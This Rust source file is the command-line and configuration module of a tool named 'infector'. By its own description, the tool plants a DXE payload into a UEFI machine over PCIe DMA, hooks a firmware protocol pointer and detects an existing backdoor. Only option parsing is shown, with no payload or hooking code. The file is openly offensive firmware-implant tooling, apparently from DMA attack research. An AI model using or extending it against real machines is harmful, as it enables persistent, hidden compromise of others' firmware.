//! CLI surface and the `Config` record it is parsed into. Scan
//! bounds are threaded explicitly through scanner calls rather than held
//! in process-global state.

use std::path::PathBuf;

use clap::{Parser, ValueEnum};
use uuid::Uuid;

use crate::addr::{DEFAULT_HOOK_SLOT, EFI_CPU_IO2_PROTOCOL_GUID, PROT_SCAN_FROM, PROT_SCAN_TO};
use crate::error::InfectorError;
use crate::guiddb::DEFAULT_GUID_DB_PATH;
use crate::hook::{HookMethod, ProtocolHookTarget};
use crate::scanner::ProtScanBounds;

#[derive(Debug, Clone, Copy, ValueEnum)]
pub enum CliHookMethod {
    SystemTable,
    Protocol,
}

impl From<CliHookMethod> for HookMethod {
    fn from(m: CliHookMethod) -> Self {
        match m {
            CliHookMethod::SystemTable => HookMethod::SystemTable,
            CliHookMethod::Protocol => HookMethod::Protocol,
        }
    }
}

fn parse_hex(s: &str) -> Result<u64, std::num::ParseIntError> {
    u64::from_str_radix(s.trim_start_matches("0x"), 16)
}

/// Plants a DXE-stage payload into a PCIe-DMA-connected UEFI target and
/// hooks a chosen firmware function pointer so the payload runs once in
/// firmware context.
#[derive(Debug, Parser)]
#[command(name = "infector", version, about)]
pub struct CliArgs {
    /// DXE-stage payload PE image to plant.
    #[arg(long)]
    pub payload: PathBuf,

    /// Hook installation method.
    #[arg(long, value_enum, default_value = "protocol")]
    pub method: CliHookMethod,

    /// Override PROT_SCAN_FROM (hex, e.g. 0x95000000).
    #[arg(long = "from", value_parser = parse_hex)]
    pub scan_from: Option<u64>,

    /// Override PROT_SCAN_TO (hex, e.g. 0xa0000000). Requires `to > from`.
    #[arg(long = "to", value_parser = parse_hex)]
    pub scan_to: Option<u64>,

    /// GUID of the protocol to hook (protocol method only).
    #[arg(long, default_value_t = EFI_CPU_IO2_PROTOCOL_GUID)]
    pub guid: Uuid,

    /// Interface vtable slot index to hook (protocol method only).
    #[arg(long, default_value_t = DEFAULT_HOOK_SLOT)]
    pub slot: u64,

    /// Force re-infection even if a backdoor is already present.
    #[arg(long)]
    pub allow_reinfect: bool,

    /// Walk and print the protocol database instead of installing a hook.
    #[arg(long)]
    pub list_protocols: bool,

    /// GUID database JSON file, purely cosmetic.
    #[arg(long, default_value = DEFAULT_GUID_DB_PATH)]
    pub guids: PathBuf,

    /// PCIe DMA device node to open (e.g. /dev/xdma0_user).
    #[arg(long, default_value = "/dev/xdma0_user")]
    pub device: String,
}

#[derive(Debug, Clone)]
pub struct Config {
    pub payload: PathBuf,
    pub method: HookMethod,
    pub scan_bounds: ProtScanBounds,
    pub target: ProtocolHookTarget,
    pub allow_reinfect: bool,
    pub list_protocols: bool,
    pub guids: PathBuf,
    pub device: String,
}

impl Config {
    pub fn from_args(args: CliArgs) -> Result<Self, InfectorError> {
        let from = args.scan_from.unwrap_or(PROT_SCAN_FROM);
        let to = args.scan_to.unwrap_or(PROT_SCAN_TO);
        if to <= from {
            return Err(InfectorError::InvalidScanBounds { from, to });
        }

        Ok(Config {
            payload: args.payload,
            method: args.method.into(),
            scan_bounds: ProtScanBounds { from, to },
            target: ProtocolHookTarget { guid: args.guid, slot: args.slot },
            allow_reinfect: args.allow_reinfect,
            list_protocols: args.list_protocols,
            guids: args.guids,
            device: args.device,
        })
    }
}
